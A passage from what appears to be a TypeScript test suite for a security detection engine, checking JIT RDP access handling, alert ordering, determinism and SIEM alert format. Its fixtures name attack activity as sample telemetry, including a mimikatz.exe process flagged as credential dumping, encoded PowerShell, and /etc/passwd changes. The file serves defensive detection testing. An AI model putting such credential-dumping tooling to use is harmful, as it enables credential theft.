    const later = flow({ id: "later-1", srcIp: "203.0.113.24", dstPort: 3389, time: at(300) });
    const d = only(detect([later], jit, [granted]), "jit-port-access");
    expect(d).toMatchObject({ startTime: at(300), endTime: at(300) });
    expect(d.evidence).toMatchObject({ allowedFlows: 1, recordIds: ["later-1"] });
  });

  it("leaves out the access an approved JIT request granted, and only that", () => {
    const asked: unknown[] = [];
    const granted: DetectionContext = {
      ...jit,
      jitGrantCovers: (id, access) => {
        asked.push({ id, ...access });
        return access.srcIp === "203.0.113.24" && access.time < at(600);
      },
    };
    const records = [
      flow({ srcIp: "203.0.113.24", dstPort: 3389, time: at(10) }),
      logon({
        user: "megan",
        logonType: "remote_interactive",
        srcIp: "203.0.113.24",
        success: true,
        time: at(20),
      }),
      flow({ srcIp: "203.0.113.24", dstPort: 3389, time: at(900) }),
      flow({ srcIp: "198.51.100.66", dstPort: 3389, time: at(30) }),
    ];
    const hits = detect(records, granted).filter((d) => d.kind === "jit-port-access");
    expect(hits.map((d) => [d.evidence.sourceIp, d.startTime])).toEqual([
      ["198.51.100.66", at(30)],
      ["203.0.113.24", at(900)],
    ]);
    expect(asked).toContainEqual({
      id: DEV,
      port: 3389,
      protocol: "TCP",
      srcIp: "203.0.113.24",
      time: at(20),
    });
  });
});

describe("detect", () => {
  const mixed = (): TelemetryRecord[] => [
    ...failures(25, 12),
    proc({ image: PS, commandLine: `powershell -enc ${enc("Get-Date")}`, time: at(50) }),
    proc({ image: "C:\\Users\\Public\\mimikatz.exe", commandLine: "mimikatz.exe", time: at(40) }),
    file({ resourceId: RUNNER, path: "/etc/passwd", time: at(5) }),
  ];
  const ctx: DetectionContext = { ...NO_CONTEXT, isCriticalPath: (_id, p) => p === "/etc/passwd" };

  it("returns nothing for nothing", () => {
    expect(detect([], ctx)).toEqual([]);
  });

  it("sorts by start time, then source id", () => {
    const list = detect(mixed(), ctx);
    expect(list.map((d) => d.kind)).toEqual([
      "brute-force",
      "critical-file-change",
      "credential-dumping",
      "encoded-powershell",
    ]);
    const keys = list.map((d) => `${d.startTime}|${d.sourceId}`);
    expect([...keys].sort()).toEqual(keys);
  });

  it("is deterministic: the same records in any order, repeated, give the same alerts", () => {
    const records = mixed();
    const once = detect(records, ctx);
    expect(detect([...records].reverse(), ctx)).toEqual(once);
    expect(detect([...records, ...records], ctx)).toEqual(once);
    expect(JSON.parse(JSON.stringify(detect(records, ctx)))).toEqual(once);
  });

  it("produces alerts the SIEM accepts", () => {
    const alerts = detect(mixed(), ctx);
    // Every kind the mixed records hold is checked below, not an empty list.
    expect(new Set(alerts.map((d) => d.kind))).toEqual(
      new Set(["brute-force", "critical-file-change", "credential-dumping", "encoded-powershell"]),
    );
    for (const d of alerts) {
      expect(d.sourceId.length).toBeLessThanOrEqual(512);
      expect(d.title.length).toBeLessThanOrEqual(512);
      expect(d.description.length).toBeGreaterThan(40);
      expect(d.remediation.length).toBeGreaterThanOrEqual(2);
      expect(d.tactics.length).toBeGreaterThan(0);
      for (const t of d.techniques) expect(t).toMatch(/^T\d{4}(?:\.\d{3})?$/);
      expect(d.entities).toContainEqual({ type: "HOST", value: HOSTS[d.resourceId] });
      expect(Date.parse(d.startTime)).toBeLessThanOrEqual(Date.parse(d.endTime));
      expect(Object.values(d.evidence)).not.toContain(undefined);
    }
  });
});
